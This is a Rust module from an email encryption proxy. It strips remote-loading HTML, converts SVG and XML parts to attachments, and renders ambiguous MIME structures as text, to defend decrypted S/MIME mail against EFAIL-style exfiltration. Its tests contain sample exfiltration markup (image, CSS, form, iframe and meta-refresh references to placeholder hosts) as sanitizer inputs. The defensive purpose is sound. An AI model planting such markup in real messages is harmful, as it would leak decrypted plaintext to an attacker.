//! Defusing content that was decrypted without integrity protection.
//!
//! S/MIME EnvelopedData (AES-CBC, what Outlook and most clients send) can be
//! modified without the key: with one known plaintext block, CBC gadgets
//! put chosen text such as `<img src="//attacker/` in front of the secret
//! (EFAIL, Poddebniak et al., USENIX Security 2018). When no good signature
//! inside the encryption vouches for the plaintext, popcrypt cannot tell
//! such a message from the one that was sent, so nothing in it may reach
//! the network when a legacy client renders it:
//!
//! - `text/html` and `application/xhtml+xml` parts, at any multipart or
//!   `message/rfc822` depth (bounded), are passed through the `ammonia`
//!   sanitizer with a policy that keeps no URL attribute and no element
//!   that loads anything (images, media, frames, objects, forms, links,
//!   `<base>`, `<meta>`, `<style>` and `style` attributes, so no CSS
//!   `url()` either); link text stays, link targets go. The transfer
//!   encoding is decoded first and the result re-encoded the same way, in
//!   the same charset;
//! - `image/svg+xml`, XML and `message/external-body` parts become
//!   non-inline `application/octet-stream` attachments (their name kept);
//! - everything else (plain text, attachments) is left byte for byte.
//!
//! A structure that cannot be read unambiguously (two different
//! Content-Type fields, a boundary that is missing, duplicated or used as a
//! line prefix, a lone CR in a header block, an encoded multipart, nesting
//! deeper than [`MAX_DEPTH`]), and one too costly to sanitize (more than
//! [`MAX_PARTS`] parts, HTML nested deeper than [`MAX_HTML_DEPTH`]) is
//! delivered as one `text/plain` rendering of the whole entity: a client may
//! read it differently from popcrypt, so no part of it is offered for
//! rendering.
//!
//! No I/O; no panics on any input.

mod encode;
mod html;

use crate::text::{self, LoneCr};
use encode::{base64_lines, crlf, qp_encode};
pub use html::sanitize_html;
use html::too_complex;

use mail_parser::decoders::base64::base64_decode;
use mail_parser::decoders::quoted_printable::quoted_printable_decode;

/// Deepest multipart / message nesting looked into; deeper is rendered as
/// text.
pub const MAX_DEPTH: usize = 16;

/// HTML with more open elements than this at once, or more start tags than
/// [`MAX_HTML_TAGS`], is not given to the sanitizer (the HTML tree builder
/// spends time proportional to the nesting depth per element, so deep
/// nesting is quadratic): the entity is rendered as text instead.
pub const MAX_HTML_DEPTH: usize = 512;

/// See [`MAX_HTML_DEPTH`].
pub const MAX_HTML_TAGS: usize = 100_000;

/// What [`defuse`] changed.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Change {
    /// HTML parts were sanitized and/or SVG/XML parts made attachments.
    Sanitized,
    /// The structure was ambiguous: the whole entity is delivered as text.
    AsText,
}

impl Change {
    /// The `X-Popcrypt-Encryption` parameter saying so.
    pub fn parameter(self) -> &'static str {
        match self {
            Change::Sanitized => "; html=sanitized",
            Change::AsText => "; html=as-text",
        }
    }
}

/// A defused entity: its new MIME header fields (CRLF-terminated) and body.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Defused {
    pub headers: Vec<u8>,
    pub body: Vec<u8>,
    pub change: Change,
}

/// Defuse one decrypted entity given as its header fields (`headers`, each
/// field with its CRLF; no blank line) and its body. `None` when nothing in
/// it can load remote content: the caller delivers it unchanged.
pub fn defuse(headers: &[u8], body: &[u8]) -> Option<Defused> {
    let mut walk = Walk::default();
    match entity(headers, body, "text/plain", 0, &[], &mut walk) {
        Ok(None) => None,
        Ok(Some((headers, body))) => Some(Defused {
            headers,
            body,
            change: Change::Sanitized,
        }),
        Err(Ambiguous) => Some(as_text(headers, body)),
    }
}

/// [`defuse`] on a whole entity (header block, blank line, body): the
/// defused entity, or `None` when nothing needed changing.
pub fn defuse_entity(entity: &[u8]) -> Option<Vec<u8>> {
    let (head, body) = split_part(entity);
    defuse(head, body).map(|d| {
        let mut v = d.headers;
        v.extend_from_slice(b"\r\n");
        v.extend_from_slice(&d.body);
        v
    })
}

/// The structure cannot be read the way every client reads it.
#[derive(Debug)]
struct Ambiguous;

/// The whole entity as one text/plain body (base64, so that no byte of it
/// is interpreted).
fn as_text(headers: &[u8], body: &[u8]) -> Defused {
    let mut raw = headers.to_vec();
    if !raw.is_empty() && !raw.ends_with(b"\n") {
        raw.extend_from_slice(b"\r\n");
    }
    raw.extend_from_slice(b"\r\n");
    raw.extend_from_slice(body);
    let charset = if std::str::from_utf8(&raw).is_ok() {
        "; charset=utf-8"
    } else {
        ""
    };
    Defused {
        headers: format!(
            "Content-Type: text/plain{charset}\r\nContent-Transfer-Encoding: base64\r\n\
             Content-Disposition: inline\r\n"
        )
        .into_bytes(),
        body: base64_lines(&raw),
        change: Change::AsText,
    }
}

// --- header blocks -------------------------------------------------------------
//
// Header blocks and multipart bodies are read by `message::strict`, the
// same reader that splits signed and encrypted structures: one reading,
// and anything it finds ambiguous is rendered as text here.

use super::mime::{fields, Field};
use super::strict;

fn param<'a>(params: &'a [(String, String)], name: &str) -> Option<&'a str> {
    params
        .iter()
        .find(|(k, _)| k == name)
        .map(|(_, v)| v.as_str())
}

/// What a part is, for defusing.
enum Kind {
    Html,
    Attach,
    Multipart { boundary: String, digest: bool },
    Message,
    Inert,
}

/// The one Content-Type of a header block (`default` when absent) and its
/// Content-Transfer-Encoding.
fn head_info(headers: &[u8], default: &str) -> Result<(Kind, Params, strict::Cte), Ambiguous> {
    let (ct, cte) = strict::head(headers).map_err(|_| Ambiguous)?;
    let (mtype, params) = match ct {
        Some(ct) => (ct.mime_type, ct.params),
        None => (default.to_string(), Vec::new()),
    };
    let identity = cte == strict::Cte::Identity;
    let kind = if mtype.contains("htm") {
        // text/html, application/xhtml+xml and lookalikes
        Kind::Html
    } else if mtype.contains("svg") || mtype.contains("xml") || mtype == "message/external-body" {
        Kind::Attach
    } else if let Some(sub) = mtype.strip_prefix("multipart/") {
        let ct = strict::ContentType {
            mime_type: mtype.clone(),
            params: params.clone(),
        };
        let boundary = strict::boundary(&ct).map_err(|_| Ambiguous)?.to_string();
        if !identity {
            return Err(Ambiguous);
        }
        Kind::Multipart {
            boundary,
            digest: sub == "digest",
        }
    } else if mtype == "message/rfc822" || mtype == "message/global" {
        if !identity {
            return Err(Ambiguous);
        }
        Kind::Message
    } else {
        Kind::Inert
    };
    Ok((kind, params, cte))
}

type Params = Vec<(String, String)>;

/// Header block and body of a part (no header block when it starts with
/// an empty line; all header when no empty line follows).
fn split_part(part: &[u8]) -> (&[u8], &[u8]) {
    let mut pos = 0;
    for line in text::lines(part, LoneCr::Content) {
        if line.text.is_empty() {
            return (&part[..pos], &part[pos + line.len()..]);
        }
        pos += line.len();
    }
    (part, &[])
}

// --- the walk ------------------------------------------------------------------

/// The most MIME parts looked at in one entity; more is rendered as text.
pub const MAX_PARTS: usize = 1000;

#[derive(Default)]
struct Walk {
    parts: usize,
}

/// A replaced entity: new header block (fields, no blank line) and body.
type Replaced = (Vec<u8>, Vec<u8>);

/// Defuse one entity. `Ok(None)`: unchanged. `Ok(Some((headers, body)))`:
/// replaced. `bounds`: the boundaries of the enclosing multiparts.
fn entity(
    headers: &[u8],
    body: &[u8],
    default: &str,
    depth: usize,
    bounds: &[Vec<u8>],
    walk: &mut Walk,
) -> Result<Option<Replaced>, Ambiguous> {
    walk.parts += 1;
    if depth > MAX_DEPTH || walk.parts > MAX_PARTS {
        return Err(Ambiguous);
    }
    let (kind, params, cte) = head_info(headers, default)?;
    let fields = fields(headers);
    match kind {
        Kind::Inert => Ok(None),
        Kind::Html => {
            let (h, b) = sanitize_part(&fields, &params, cte, body, bounds)?;
            Ok(Some((h, b)))
        }
        Kind::Attach => Ok(Some((as_attachment(&fields, &params), body.to_vec()))),
        Kind::Message => {
            let (h, b) = split_part(body);
            Ok(
                entity(h, b, "text/plain", depth + 1, bounds, walk)?.map(|(h, b)| {
                    let mut inner = h;
                    inner.extend_from_slice(b"\r\n");
                    inner.extend_from_slice(&b);
                    (headers.to_vec(), inner)
                }),
            )
        }
        Kind::Multipart { boundary, digest } => {
            let mut inner_bounds = bounds.to_vec();
            inner_bounds.push(boundary.clone().into_bytes());
            let child_default = if digest {
                "message/rfc822"
            } else {
                "text/plain"
            };
            let spans = strict::part_ranges(body, &boundary).map_err(|_| Ambiguous)?;
            let mut out = Vec::with_capacity(body.len());
            let mut last = 0;
            let mut any = false;
            for (s, e) in spans {
                let (h, b) = split_part(&body[s..e]);
                if let Some((nh, nb)) = entity(h, b, child_default, depth + 1, &inner_bounds, walk)?
                {
                    any = true;
                    out.extend_from_slice(&body[last..s]);
                    out.extend_from_slice(&nh);
                    out.extend_from_slice(b"\r\n");
                    out.extend_from_slice(&nb);
                    last = e;
                }
            }
            if !any {
                return Ok(None);
            }
            out.extend_from_slice(&body[last..]);
            Ok(Some((headers.to_vec(), out)))
        }
    }
}

/// The new header block and body of an HTML part.
fn sanitize_part(
    fields: &[Field<'_>],
    params: &Params,
    cte: strict::Cte,
    body: &[u8],
    bounds: &[Vec<u8>],
) -> Result<(Vec<u8>, Vec<u8>), Ambiguous> {
    let decoded = match cte {
        strict::Cte::Identity => body.to_vec(),
        strict::Cte::Base64 => base64_decode(body).ok_or(Ambiguous)?,
        strict::Cte::QuotedPrintable => quoted_printable_decode(body).ok_or(Ambiguous)?,
    };
    let label = param(params, "charset").map(str::trim).unwrap_or("");
    let declared = encoding_rs::Encoding::for_label(label.as_bytes());
    let enc = declared.unwrap_or(if std::str::from_utf8(&decoded).is_ok() {
        encoding_rs::UTF_8
    } else {
        encoding_rs::WINDOWS_1252
    });
    let (text, used, _) = enc.decode(&decoded);
    if too_complex(&text) {
        return Err(Ambiguous);
    }
    let clean = sanitize_html(&text);
    let out_enc = used.output_encoding();
    let (bytes, _, _) = out_enc.encode(&clean);
    let charset = if declared == Some(used) && out_enc == used {
        label.to_string()
    } else {
        out_enc.name().to_ascii_lowercase()
    };
    let lines = crlf(&bytes);
    let ascii = lines.is_ascii();
    let long = lines.split(|&b| b == b'\n').any(|l| l.len() > 998);
    let starts_bound = |enc: &[u8]| {
        enc.split(|&b| b == b'\n').any(|l| {
            bounds
                .iter()
                .any(|bd| l.len() >= bd.len() + 2 && l.starts_with(b"--") && l[2..].starts_with(bd))
        })
    };
    let (cte_out, body_out) = match cte {
        strict::Cte::Base64 => ("base64", base64_lines(&lines)),
        strict::Cte::QuotedPrintable => ("quoted-printable", qp_encode(&lines)),
        _ if long || lines.contains(&0) => ("quoted-printable", qp_encode(&lines)),
        _ => (if ascii { "7bit" } else { "8bit" }, lines),
    };
    let (cte_out, body_out) = if starts_bound(&body_out) {
        ("base64", base64_lines(&crlf(&bytes)))
    } else {
        (cte_out, body_out)
    };
    let mut head = fields_except(fields, &["content-type", "content-transfer-encoding"]);
    head.extend_from_slice(
        format!(
            "Content-Type: text/html; charset=\"{}\"\r\nContent-Transfer-Encoding: {cte_out}\r\n",
            quote_safe(&charset)
        )
        .as_bytes(),
    );
    Ok((head, body_out))
}

/// The header fields (each CRLF-terminated) except those named, and except
/// lines that are not fields.
fn fields_except(fields: &[Field<'_>], names: &[&str]) -> Vec<u8> {
    let mut head = Vec::new();
    for f in fields {
        if f.name.is_empty() || names.contains(&f.name.as_str()) {
            continue;
        }
        head.extend_from_slice(f.raw);
        if !f.raw.ends_with(b"\n") {
            head.extend_from_slice(b"\r\n");
        }
    }
    head
}

/// A charset label or file name reduced to characters that need no quoting
/// care.
fn quote_safe(s: &str) -> String {
    s.chars()
        .filter(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | ':' | '+'))
        .collect()
}

/// The header block of a part made a non-inline attachment.
fn as_attachment(fields: &[Field<'_>], params: &Params) -> Vec<u8> {
    let disposition_name = fields
        .iter()
        .find(|f| f.name == "content-disposition")
        .and_then(|f| {
            // The disposition's parameters, read like Content-Type ones.
            let value = String::from_utf8_lossy(f.raw);
            let (_, params) = value.split_once(';')?;
            let ct = strict::parse_content_type(&format!("x/x;{params}")).ok()?;
            ct.param("filename").map(str::to_string)
        });
    let name = param(params, "name")
        .map(str::to_string)
        .or(disposition_name)
        .map(|n| quote_safe(&n))
        .filter(|n| !n.is_empty() && !n.starts_with('.'))
        .unwrap_or_else(|| "attachment.bin".to_string());
    let mut head = fields_except(fields, &["content-type", "content-disposition"]);
    head.extend_from_slice(
        format!(
            "Content-Type: application/octet-stream; name=\"{name}\"\r\n\
             Content-Disposition: attachment; filename=\"{name}\"\r\n"
        )
        .as_bytes(),
    );
    head
}

#[cfg(test)]
mod tests {
    use super::*;

    fn s(v: &[u8]) -> String {
        String::from_utf8_lossy(v).into_owned()
    }

    #[test]
    fn policy_keeps_no_remote_reference() {
        let html = r#"<html><head><base href="http://b.invalid/"><meta http-equiv="refresh" content="0;url=http://m.invalid/">
<link rel=stylesheet href="http://l.invalid/s.css"><style>body{background:url(http://s.invalid/x)}</style></head>
<body background="http://bg.invalid/" style="background:url(http://st.invalid/)">
<p>Hello <a href="http://a.invalid/?secret">link text</a> <img src="http://i.invalid/x.png" srcset="http://ss.invalid/ 2x">
<img src=//efail.invalid/> <table background="http://t.invalid/"><tr><td style="x">cell</td></tr></table>
<form action="http://f.invalid/"><input type=image src="http://in.invalid/"><button formaction="http://fa.invalid/">b</button></form>
<iframe src="http://if.invalid/"></iframe><object data="http://o.invalid/"></object><embed src="http://e.invalid/">
<video poster="http://p.invalid/" src="http://v.invalid/"><source src="http://so.invalid/"></video><audio src="http://au.invalid/"></audio>
<svg><image href="http://svg.invalid/"/></svg><blockquote cite="http://c.invalid/">q</blockquote>
<div style="background-image:url('http://d.invalid/')">d</div><font face="Arial" color="red">f</font></p></body></html>"#;
        let out = sanitize_html(html);
        for bad in [
            "invalid",
            "http",
            "src",
            "href",
            "url",
            "style",
            "<img",
            "<a",
            "<meta",
            "<base",
            "<link",
            "<form",
            "<input",
            "<iframe",
            "<object",
            "<embed",
            "<video",
            "<audio",
            "<svg",
            "background",
        ] {
            assert!(!out.contains(bad), "{bad:?} survives: {out}");
        }
        for kept in ["Hello", "link text", "cell", "<p>", "<table>", "<font"] {
            assert!(out.contains(kept), "{kept:?} lost: {out}");
        }
    }

    #[test]
    fn plain_and_attachments_are_untouched() {
        let h = b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 7bit\r\n";
        assert_eq!(defuse(h, b"<img src=http://x.invalid/>\r\n"), None);
        assert_eq!(defuse(b"", b"no headers at all\r\n"), None);
        let mixed = b"Content-Type: multipart/mixed; boundary=\"b\"\r\n";
        let body = b"preamble\r\n--b\r\nContent-Type: text/plain\r\n\r\nhi\r\n--b\r\nContent-Type: application/pdf\r\nContent-Transfer-Encoding: base64\r\n\r\nJVBERg==\r\n--b--\r\n";
        assert_eq!(defuse(mixed, body), None);
        // A garbled header block (no valid Content-Type): text/plain.
        let garbled =
            b"\x8f\x13q\xe1ZZ\xc4xt/html; charset=utf-8\r\nContent-Transfer-Encoding: 7bit\r\n";
        assert_eq!(defuse(garbled, b"<img src=x>"), None);
    }

    #[test]
    fn html_root_is_sanitized_in_its_encoding_and_charset() {
        let h = b"Content-Type: text/html; charset=iso-8859-1\r\nContent-Transfer-Encoding: quoted-printable\r\nContent-Language: de\r\n";
        let body = b"<p>Gr=FC=DFe <img src=3D\"http://x.invalid/\">Caf=E9</p>\r\n";
        let d = defuse(h, body).unwrap();
        assert_eq!(d.change, Change::Sanitized);
        assert_eq!(
            s(&d.headers),
            "Content-Language: de\r\nContent-Type: text/html; charset=\"iso-8859-1\"\r\nContent-Transfer-Encoding: quoted-printable\r\n"
        );
        let plain = quoted_printable_decode(&d.body).unwrap();
        assert_eq!(plain, b"<p>Gr\xfc\xdfe Caf\xe9</p>\r\n");

        let h = b"Content-Type: TEXT/HTML\r\nContent-Transfer-Encoding: base64\r\n";
        let body = base64_lines(b"<b>x</b><img src=\"//e.invalid/");
        let d = defuse(h, &body).unwrap();
        assert!(s(&d.headers).contains("Content-Transfer-Encoding: base64\r\n"));
        assert_eq!(base64_decode(&d.body).unwrap(), b"<b>x</b>");
    }

    #[test]
    fn nested_parts_are_found_and_svg_becomes_an_attachment() {
        let h = b"Content-Type: multipart/mixed; boundary=\"out\"\r\n";
        let body = b"--out\r\nContent-Type: multipart/alternative; boundary=\"alt\"\r\n\r\n--alt\r\nContent-Type: text/plain\r\n\r\nplain <img src=http://p.invalid/>\r\n--alt\r\nContent-Type: text/html\r\n\r\n<p>rich<img src=\"http://h.invalid/\"></p>\r\n--alt--\r\n--out\r\nContent-Type: image/svg+xml; name=\"logo.svg\"\r\nContent-Disposition: inline\r\n\r\n<svg><image href=\"http://s.invalid/\"/></svg>\r\n--out\r\nContent-Type: message/rfc822\r\n\r\nSubject: fwd\r\nContent-Type: application/xhtml+xml\r\n\r\n<p>fwd<img src=\"http://f.invalid/\"/></p>\r\n--out--\r\n";
        let d = defuse(h, body).unwrap();
        let out = s(&d.body);
        assert!(out.contains("plain <img src=http://p.invalid/>"), "{out}");
        assert!(
            !out.contains("h.invalid") && out.contains("<p>rich</p>"),
            "{out}"
        );
        assert!(
            !out.contains("f.invalid") && out.contains("<p>fwd</p>"),
            "{out}"
        );
        assert!(out.contains("Subject: fwd\r\n"), "{out}");
        assert!(out.contains(
            "Content-Type: application/octet-stream; name=\"logo.svg\"\r\nContent-Disposition: attachment; filename=\"logo.svg\"\r\n\r\n<svg>"
        ), "{out}");
        assert!(out.ends_with("--out--\r\n"));
        assert_eq!(d.headers, h);
    }

    #[test]
    fn ambiguous_structures_become_text() {
        let cases: &[(&[u8], &[u8])] = &[
            (b"Content-Type: text/plain\r\nContent-Type: text/html\r\n", b"<img src=//x/>"),
            (b"Content-Type: multipart/mixed; boundary=a; boundary=b\r\n", b"--a\r\n\r\nx\r\n--a--\r\n"),
            (b"Content-Type: multipart/mixed; boundary=b\r\n", b"--bContent-Type: text/html\r\n\r\n<img src=//x/>\r\n--b--\r\n"),
            (b"Content-Type: multipart/mixed; boundary=b\r\n", b"--b\r\n\r\nx\r\n--b--\r\n--b\r\nContent-Type: text/html\r\n\r\n<img>\r\n"),
            (b"Content-Type: multipart/mixed\r\n", b"x"),
            (b"Content-Type: text/plain\rContent-Type: text/html\r\n", b"<img>"),
            (b"Content-Type: text/html\r\nContent-Transfer-Encoding: x-uuencode\r\n", b"x"),
            (b"Content-Type: multipart/mixed; boundary=b\r\nContent-Transfer-Encoding: base64\r\n", b"--b\r\n\r\nx\r\n--b--\r\n"),
        ];
        for (h, b) in cases {
            let d = defuse(h, b).unwrap_or_else(|| panic!("{:?}", s(h)));
            assert_eq!(d.change, Change::AsText, "{:?}", s(h));
            assert!(s(&d.headers).starts_with("Content-Type: text/plain"));
            let raw = base64_decode(&d.body).unwrap();
            assert!(raw.starts_with(h) && raw.ends_with(b), "{:?}", s(h));
        }
        // Nesting beyond the bound.
        let mut body = b"<img src=//x/>".to_vec();
        for _ in 0..MAX_DEPTH + 2 {
            let mut m = b"Content-Type: message/rfc822\r\n\r\n".to_vec();
            m.extend_from_slice(&body);
            body = m;
        }
        let d = defuse(b"Content-Type: message/rfc822\r\n", &body).unwrap();
        assert_eq!(d.change, Change::AsText);
        // Too many parts.
        let mut many = Vec::new();
        for _ in 0..MAX_PARTS {
            many.extend_from_slice(b"--b\r\nContent-Type: text/plain\r\n\r\nx\r\n");
        }
        many.extend_from_slice(b"--b--\r\n");
        let d = defuse(b"Content-Type: multipart/mixed; boundary=b\r\n", &many).unwrap();
        assert_eq!(d.change, Change::AsText);
        many.drain(..b"--b\r\nContent-Type: text/plain\r\n\r\nx\r\n".len());
        assert_eq!(
            defuse(b"Content-Type: multipart/mixed; boundary=b\r\n", &many),
            None
        );
    }

    #[test]
    fn deep_html_is_bounded() {
        let h = b"Content-Type: text/html\r\n";
        let nested = |n: usize| {
            let mut html = "<div><span>".repeat(n);
            html.push_str("<img src=//x.invalid/>deep");
            html
        };
        // Within the bound: sanitized, on a thread with the default 2 MiB
        // stack (as the proxy's blocking workers have).
        let ok = std::thread::spawn(move || defuse(h, nested(MAX_HTML_DEPTH / 2 - 1).as_bytes()))
            .join()
            .expect("no stack overflow")
            .unwrap();
        assert_eq!(ok.change, Change::Sanitized);
        assert!(s(&ok.body).contains("deep") && !s(&ok.body).contains("invalid"));
        // Beyond it: never parsed, the whole entity is text.
        let deep = defuse(h, nested(60_000).as_bytes()).unwrap();
        assert_eq!(deep.change, Change::AsText);
        let many = "<br>".repeat(MAX_HTML_TAGS + 1);
        assert_eq!(defuse(h, many.as_bytes()).unwrap().change, Change::AsText);
        // Void elements and closed elements do not add depth.
        let flat = "<p>x<br><img src=y></p>".repeat(5_000);
        assert!(!too_complex(&flat));
    }

    #[test]
    fn encoders_round_trip() {
        let text = b"a = b\r\n\tline with trailing space \r\n\xff\x00 and a very long line that goes on and on and on and on and on and on and on and on\r\n";
        let enc = qp_encode(text);
        assert!(enc.split(|&b| b == b'\n').all(|l| l.len() <= 78));
        assert_eq!(quoted_printable_decode(&enc).unwrap(), text);
        assert_eq!(base64_decode(&base64_lines(text)).unwrap(), text);
        assert_eq!(crlf(b"a\nb\rc\r\n"), b"a\r\nb\r\nc\r\n");
        assert_eq!(
            defuse_entity(b"Content-Type: text/html\r\n\r\n<p>x<img src=y></p>").unwrap(),
            b"Content-Type: text/html; charset=\"utf-8\"\r\nContent-Transfer-Encoding: 7bit\r\n\r\n<p>x</p>"
        );
    }
}
